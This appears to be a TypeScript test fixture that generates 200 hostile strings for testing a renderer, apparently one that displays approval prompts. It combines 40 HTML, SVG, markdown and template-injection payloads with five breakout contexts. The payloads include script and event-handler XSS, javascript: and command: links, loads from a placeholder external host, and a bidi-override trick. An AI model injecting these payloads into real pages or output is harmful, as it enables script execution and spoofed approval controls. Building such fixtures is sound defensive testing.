// Two hundred texts that want to be more than text: each payload by itself, and breaking out of what it may stand in.

const CALL = "alert(1)";
const AWAY = "https://example.invalid/x";

const PAYLOADS = [
  `<script>${CALL}</script>`,
  `<ScRiPt src=${AWAY}.js></sCrIpT>`,
  `<script type=module>import("${AWAY}.js")</script>`,
  `<img src=x onerror=${CALL}>`,
  `<img src="${AWAY}.png" onload="${CALL}">`,
  `<img/src=x/onerror=${CALL}//`,
  `<img src=x onerror\u0000=${CALL}>`,
  `<svg onload=${CALL}>`,
  `<svg><animate onbegin=${CALL} attributeName=x dur=1s></svg>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${CALL}>"></use></svg>`,
  `<math><mtext><style><img src onerror=${CALL}></style></mtext></math>`,
  `<iframe src="javascript:${CALL}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<object data="${AWAY}"></object><embed src="${AWAY}">`,
  `<video><source onerror=${CALL}></video>`,
  `<audio src=x onerror=${CALL} autoplay>`,
  `<body onload=${CALL}>`,
  `<details open ontoggle=${CALL}>x</details>`,
  `<input autofocus onfocus=${CALL}>`,
  `<select autofocus onfocus=${CALL}><option>x</select>`,
  `<marquee onstart=${CALL}>x</marquee>`,
  `<a href="javascript:${CALL}">Approve</a>`,
  `<a href="JaVa\tScRiPt:${CALL}">x</a>`,
  `<a href="command:workbench.action.quit">x</a>`,
  `<form action="${AWAY}"><button>Approve</button></form>`,
  `<button formaction="javascript:${CALL}">Deny</button>`,
  `<base href="${AWAY}/">`,
  `<link rel=stylesheet href="${AWAY}.css">`,
  `<meta http-equiv=refresh content="0;url=${AWAY}">`,
  `<style>@import "${AWAY}.css"; * { display: none }</style>`,
  `<div style="background:url(${AWAY}.png)">x</div>`,
  `<template shadowrootmode=open><slot onslotchange=${CALL}></slot></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${CALL}>">`,
  `<xss id=x tabindex=1 onfocus=${CALL}></xss>`,
  `<assent-card></assent-card><assent-app></assent-app>`,
  `![x](${AWAY}.png) ![y](data:image/svg+xml,<svg/onload=${CALL}>)`,
  `[Approve](javascript:${CALL}) [b](command:assent.stop) [c](vscode://x/y) [d](data:text/html,x)`,
  `[x]: javascript:${CALL} "t"\n\n[x]\n\n<javascript:${CALL}>`,
  `\${${CALL}} {{${CALL}}} #{${CALL}} <%= ${CALL} %>`,
  `\u202E<img src=x onerror=${CALL}>\u202C`,
];

const PLACES: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">'>${payload}<x y="`,
  (payload) => `--></bdi></pre></section></template>${payload}`,
  (payload) => `\`\`\`html\n${payload}\n\`\`\`\n\n| a |\n|---|\n| ${payload} |`,
  (payload) => `&lt;b&gt;${payload}`.replaceAll("<", "&lt;").replaceAll(">", "&#x3e;"),
];

export const HOSTILE_STRINGS: readonly string[] = PLACES.flatMap((place) => PAYLOADS.map(place));
